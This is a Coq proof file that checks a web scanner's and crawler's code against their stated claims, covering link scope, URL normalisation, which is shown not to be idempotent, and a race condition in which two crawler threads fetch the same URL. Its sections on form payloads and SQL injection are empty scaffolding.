Lemma links_stay_in_scope_witness :
  exists s',
    Scanner.start_scan Demo.env Demo.config "http://a.com" None "id-1" Scanner.init = Some s' /\
    (forall l, l ∈ Scanner.scanned_links s' ->
               Utils.get_base_url (Scanner.target_url l)
               = Utils.get_base_url (Utils.normalize_url "http://a.com") /\
               Utils.get_base_url (Scanner.source_url l)
               = Utils.get_base_url (Utils.normalize_url "http://a.com")) /\
    (forall u, u ∈ Stats.scanned_urls (Scanner.stats s') ->
               Utils.get_base_url u = Utils.get_base_url (Utils.normalize_url "http://a.com")).
Proof.
  destruct (ScanFacts.start_scan_total Demo.env Demo.config "http://a.com" None "id-1"
              Scanner.init) as [s' Hscan].
  exists s'. split; [exact Hscan|].
  apply (links_stay_in_scope Demo.env Demo.config "http://a.com" None "id-1" Scanner.init s').
  - intros l x. apply elem_of_remove_dups.
  - exact Hscan.
Defined.

Example demo_scan_links :
  Demo.links_of (Scanner.start_scan Demo.env Demo.config "http://a.com" None "id-1" Scanner.init)
  = [("http://a.com/", "http://a.com/x"); ("http://a.com/x", "http://a.com/")].
Proof. vm_compute. reflexivity. Qed.

(** ** Idempotence of the normalisation *)

(** C8 (the code against the claim): a path that ends in two slashes loses
    one of them per pass, so one more pass changes the result:
    [normalize_url] is not idempotent at [http://a.com/x//].  The other
    parts of the claim hold on their examples: the fragment goes, the query
    stays, one trailing slash is cut except at the root, and the URLs with
    and without the slash normalize to the same text. *)
Theorem normalize_url_twice :
  Utils.normalize_url "http://a.com/x//" = "http://a.com/x/" /\
  Utils.normalize_url (Utils.normalize_url "http://a.com/x//") = "http://a.com/x" /\
  Utils.normalize_url (Utils.normalize_url "http://a.com/x//")
  <> Utils.normalize_url "http://a.com/x//" /\
  Utils.normalize_url "http://a.com/x/" = Utils.normalize_url "http://a.com/x" /\
  Utils.normalize_url "http://a.com/x/?q=1#top" = "http://a.com/x?q=1" /\
  Utils.normalize_url "http://a.com/" = "http://a.com/".
Proof. repeat split; try reflexivity. vm_compute. discriminate. Qed.

(** ** Payloads in form requests *)

Module FormFacts.
Import Scanner.




Section WithEnv.
Variable E : Env.



End WithEnv.

End FormFacts.

Module SqliFacts.
Import Sqli.

Section WithSession.
Variable session : list SEvent -> SEvent -> SAnswer.
Variable parse_qs : string -> list (string * list string).





End WithSession.

End SqliFacts.



(** ** The threaded crawler *)

Module CrawlerFacts.
Import Crawler.

Section WithEnv.
Variable E : CrawlEnv.
Variable base_url : string.

Lemma enqueue_links_keeps (url : string) (hrefs : list string) (st : CState) :
  let st' := enqueue_links E base_url url hrefs st in
  visited st' = visited st /\ fetched st' = fetched st /\ threads st' = threads st.
Proof.
  revert st. induction hrefs as [|href rest IH]; intros st; simpl; [auto|].
  match goal with
  | |- context [enqueue_links E base_url url rest ?x] =>
      destruct (IH x) as (H1 & H2 & H3); cbv zeta; rewrite H1, H2, H3
  end.
  destruct (is_valid_link _ && is_same_domain E _ base_url && negb _); auto.
Qed.

Lemma fetch_and_process_keeps (url : string) (st : CState) :
  let st' := fetch_and_process E base_url url st in
  visited st' = visited st /\ fetched st' = (fetched st ++ [url])%list
  /\ threads st' = threads st.
Proof.
  unfold fetch_and_process.
  destruct (c_get E url) as [response|]; [|auto].
  destruct (negb _); [auto|].
  match goal with
  | |- context [enqueue_links E base_url url ?h ?x] =>
      destruct (enqueue_links_keeps url h x) as (H1 & H2 & H3);
      cbv zeta in *; rewrite H1, H2, H3
  end.
  simpl. auto.
Qed.

Lemma solo_init : Solo (init base_url 1).
Proof.
  split; [constructor|]. split; [intros u Hu; inversion Hu|].
  exists Idle. split; [reflexivity|exact I].
Qed.

Lemma solo_step (st st' : CState) : Solo st -> step E base_url st st' -> Solo st'.
Proof.
  intros (Hnd & Hsub & pc & Hpc & Hfresh) [i Hstep].
  unfold thread_step in Hstep. rewrite Hpc in Hstep.
  destruct i as [|i]; [|discriminate]. simpl in Hstep.
  destruct pc as [|u|u|u|u|].
  - destruct (queue st) as [|url rest]; [discriminate|]. injection Hstep as <-.
    unfold Solo, set_pc. simpl. rewrite ?Hpc. simpl. eauto.
  - destruct (bool_decide (u ∈ visited st)) eqn:Hin; injection Hstep as <-;
      unfold Solo, set_pc; simpl; rewrite ?Hpc; simpl;
      (split; [exact Hnd|]); (split; [exact Hsub|]); eexists; (split; [reflexivity|]).
    + exact I.
    + apply bool_decide_eq_false in Hin. exact Hin.
  - destruct (bool_decide (u ∈ visited st)) eqn:Hin; injection Hstep as <-;
      unfold Solo, set_pc; simpl; rewrite ?Hpc; simpl;
      (split; [exact Hnd|]); (split; [exact Hsub|]); eexists; (split; [reflexivity|]).
    + exact I.
    + exact Hfresh.
  - injection Hstep as <-. unfold Solo, set_pc. simpl. rewrite ?Hpc. simpl.
    split; [exact Hnd|]. split; [intros v Hv; set_solver|].
    eexists. split; [reflexivity|]. split; [set_solver|].
    intros Hu. apply Hfresh, Hsub, Hu.
  - injection Hstep as <-.
    destruct (fetch_and_process_keeps u st) as (H1 & H2 & H3). cbv zeta in *.
    destruct Hfresh as [Hvis Hnew].
    unfold Solo, set_pc. simpl. rewrite ?H1, ?H2, ?H3, ?Hpc. simpl.
    split; [apply NoDup_app; split; [exact Hnd|]; split;
            [intros x Hx Hx'; apply list_elem_of_singleton in Hx' as ->; auto
            |apply NoDup_singleton]|].
    split; [intros v Hv; apply elem_of_app in Hv as [Hv|Hv];
            [auto|apply list_elem_of_singleton in Hv as ->; exact Hvis]|].
    eexists. split; [reflexivity|exact I].
  - injection Hstep as <-. unfold Solo, set_pc. simpl. rewrite ?Hpc. simpl.
    split; [exact Hnd|]. split; [exact Hsub|]. eexists. split; [reflexivity|exact I].
Qed.

(** With one worker thread no URL is ever fetched twice. *)
Lemma single_thread_fetches_once (st : CState) :
  reachable E base_url 1 st -> NoDup (fetched st).
Proof.
  intros Hreach. assert (Hsolo : Solo st); [|apply Hsolo].
  induction Hreach as [|st st' _ IH Hstep]; [apply solo_init|].
  eapply solo_step; eauto.
Qed.

(** A run under a schedule is a path of the step relation. *)
Lemma run_reachable (n : nat) (schedule : list nat) (st st' : CState) :
  reachable E base_url n st ->
  run E base_url schedule st = Some st' ->
  reachable E base_url n st'.
Proof.
  revert st. induction schedule as [|i rest IH]; intros st Hreach; simpl.
  - intros [= <-]. exact Hreach.
  - destruct (thread_step E base_url i st) as [st1|] eqn:Hstep; [|discriminate].
    apply IH. eapply reach_step; [exact Hreach|]. exists i. exact Hstep.
Qed.

End WithEnv.

End CrawlerFacts.

(** C1 (the code against the claim): the base page holds two anchors to
    [/x], so [/x] is queued twice.  With the five threads of [WebCrawler],
    threads 0 and 1 each take one copy, both find [/x] missing from the
    visited set before either adds it, and both fetch it: the state is
    reachable, the queue is joined, and [/x] was fetched twice. *)
Theorem two_workers_fetch_twice :
  exists st,
    Crawler.run CrawlDemo.env CrawlDemo.base CrawlDemo.racy_schedule
                (Crawler.init CrawlDemo.base 5) = Some st /\
    Crawler.reachable CrawlDemo.env CrawlDemo.base 5 st /\
    Crawler.joined st = true /\
    Crawler.fetched st = ["http://a.com/"; "http://a.com/x"; "http://a.com/x"] /\
    ~ NoDup (Crawler.fetched st).
Proof.
  destruct (Crawler.run CrawlDemo.env CrawlDemo.base CrawlDemo.racy_schedule
              (Crawler.init CrawlDemo.base 5)) as [st|] eqn:Hrun;
    [|vm_compute in Hrun; discriminate].
  exists st. split; [reflexivity|]. split.
  { eapply CrawlerFacts.run_reachable; [apply Crawler.reach_init|exact Hrun]. }
  vm_compute in Hrun. injection Hrun as <-.
  split; [reflexivity|]. split; [reflexivity|].
  simpl. intros Hnd. apply NoDup_cons in Hnd as [_ Hnd]. apply NoDup_cons in Hnd as [Hx _].
  apply Hx. left.
Qed.

(** The sequential scanner and the crawler with a single thread do keep to
    the claim: the URLs of a scan are distinct and new, and one thread alone
    never fetches a URL twice. *)
Lemma sequential_runs_visit_once :
  (forall E cfg seed sid uuid4 s s',
      Scanner.start_scan E cfg seed sid uuid4 s = Some s' ->
      NoDup (Stats.scanned_urls (Scanner.stats s')) /\
      (forall u, u ∈ Stats.scanned_urls (Scanner.stats s') -> u ∉ Scanner.visited_urls s)) /\
  (forall E base_url st,
      Crawler.reachable E base_url 1 st -> NoDup (Crawler.fetched st)).
Proof.
  split.
  - intros E cfg seed sid uuid4 s s' Hscan.
    destruct (ScanFacts.start_scan_budget E cfg seed sid uuid4 s s' Hscan) as (H1 & H2 & _).
    split; assumption.
  - apply CrawlerFacts.single_thread_fetches_once.
Qed.
